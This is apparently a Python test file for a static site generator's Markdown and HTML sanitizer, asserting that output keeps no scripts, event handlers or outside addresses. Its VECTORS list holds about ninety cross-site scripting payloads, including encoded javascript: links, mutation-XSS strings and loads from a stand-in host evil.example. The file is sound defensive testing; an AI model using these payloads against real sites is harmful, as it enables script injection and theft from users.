"""Nothing that a body says becomes code."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitegen.markup.convert import convert
from sitegen.markup.fill import fill
from sitegen.markup.sanitize import TAGS
from sitegen.model.views import Target, TargetKind

OURS = {"nav"}
ADDRESSES = {"href", "src", "poster"}
HANDLER_OR_STYLE = re.compile(r"on|style$|srcdoc$|srcset$|formaction$|xmlns|xlink:|background$|ping$|target$")
# As the plan tells what leads out of the site, which it lets through as it is.
OUTSIDE = re.compile(r"[\x00-\x20]*(?:[a-zA-Z][a-zA-Z0-9+.\s-]*:|//)")
ALLOWED_ADDRESS = re.compile(r"(?:https?:|mailto:|tel:)|//|/page/[0-9]+$")

VECTORS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script >alert(1)</script
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img src="x" srcset="//evil.example/a 2x" onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<div onclick=alert(1) onmouseover="alert(1)">x</div>
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1) autoplay></video>
<video><source onerror="alert(1)"></video>
<video poster="javascript:alert(1)" src="data:text/html,x"></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#14;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="file:///etc/passwd">x</a>
<a href="https://a.example" target=_blank ping="//evil.example">x</a>
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](JAVASCRIPT:alert(1))
[x](javascript%3Aalert(1))
[x](%6Aavascript%3Aalert(1))
[x](%01javascript:alert(1))
[x](java%0Ascript%3Aalert(1))
[x](%2F%2Fevil.example/x)
![x](%2F%2Fevil.example/x.png)
<a href="/\\evil.example">x</a>
<a href="javascript&#37;3Aalert(1)">x</a>
[x]( javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](java&#10;script:alert(1))
[x](java\\script:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x][r]  [r]: javascript:alert(1)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](a.png"onerror="alert(1))
![x" onerror="alert(1)](a.png)
![x](a.png 't" onerror="alert(1)')
[x](a.pdf"onclick="alert(1))
[x](a.md 't" onclick="alert(1)')
<javascript:alert(1)>
<vbscript://x>
**x**{onclick=alert(1)}
**x**{: style="color:red" onmouseover="alert(1)"}
# x {onclick=alert(1) #i}
```{.py onclick=alert(1)}
!!! note "<script>alert(1)</script>"
:::<img src=x onerror=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<p title="\x02a0\x03" id="&#2;a0&#3;">x</p> ![y](y.png)
<a href="x.md&quot; onclick=&quot;alert(1)">x</a>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">
""".strip().split("\n")


class _Inspector(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | OURS, tag
        for name, value in attrs:
            assert not HANDLER_OR_STYLE.match(name), (tag, name)
            if name in ADDRESSES:
                assert ALLOWED_ADDRESS.match(value or ""), (tag, name, value)
                assert tag == "a" or (value or "").startswith("/page/"), "a page fetches from elsewhere"


def assert_harmless(text: str) -> None:
    converted = convert(text)
    assert not any(OUTSIDE.match(link) for link in converted.prose.links)
    targets = tuple(
        Target(kind=TargetKind.LINK, address=f"/page/{number}") for number in range(len(converted.prose.links))
    )
    html = fill(converted.html, targets, lambda address: address)
    assert "\x02" not in html and "\x03" not in html
    inspector = _Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_comes_out_harmless_wherever_it_stands(vector: str) -> None:
    vector = vector.replace("  [r]", "\n\n[r]")
    for text in (vector, f"文{vector}文", f"- {vector}", f"> {vector}", f"| a | b |\n|---|---|\n| {vector} | x |"):
        assert_harmless(text)


SIGNS = """# ## - 1. > ` ``` * ** _ [ ] ( ) ![ ]( < > </ <! --> & &# ; " ' = { } {: {. | :: ::: !!! \\ / :"""

PIECES = st.sampled_from(
    [
        *VECTORS,
        *SIGNS.split(),
        *("\n", "\n\n", " ", "    ", "\t"),
        *(
            "javascript:",
            "onerror=",
            "<a href=",
            "<img src=",
            "[^1]",
            "[^1]: ",
            "&lt;",
            "&#60;",
            "党建",
            "“",
            "　　",
            "\x00",
        ),
    ]
)


@given(st.lists(PIECES | st.text(max_size=5), max_size=30).map("".join))
def test_no_text_makes_conversion_raise_or_harm(text: str) -> None:
    assert_harmless(text)


@given(st.text(max_size=300))
def test_any_text_at_all_is_harmless(text: str) -> None:
    assert_harmless(text)


def test_what_writers_need_of_html_passes() -> None:
    text = (
        '<p align="right" lang="zh">落款</p>\n<ruby>㛃<rt>jié</rt></ruby> <u>下划</u> <time datetime="2024">2024</time>'
    )
    assert convert(text).html == (
        '<p lang="zh" class="right">落款</p>\n'
        '<p><ruby>㛃<rt>jié</rt></ruby> <u>下划</u> <time datetime="2024">2024</time></p>'
    )


def test_only_known_classes_pass() -> None:
    assert convert('<p class="right MsoNormal">甲</p>').html == '<p class="right">甲</p>'
    assert convert('<p class="MsoNormal">甲</p>').html == "<p>甲</p>"


def test_ids_are_spelled_without_blanks_and_stand_once() -> None:
    converted = convert('<p id="甲 乙">一</p>\n\n<p id="甲 乙">二</p>\n\n<p id="">三</p>')
    assert converted.prose.ids == ("甲-乙",) and converted.html.count("id=") == 1
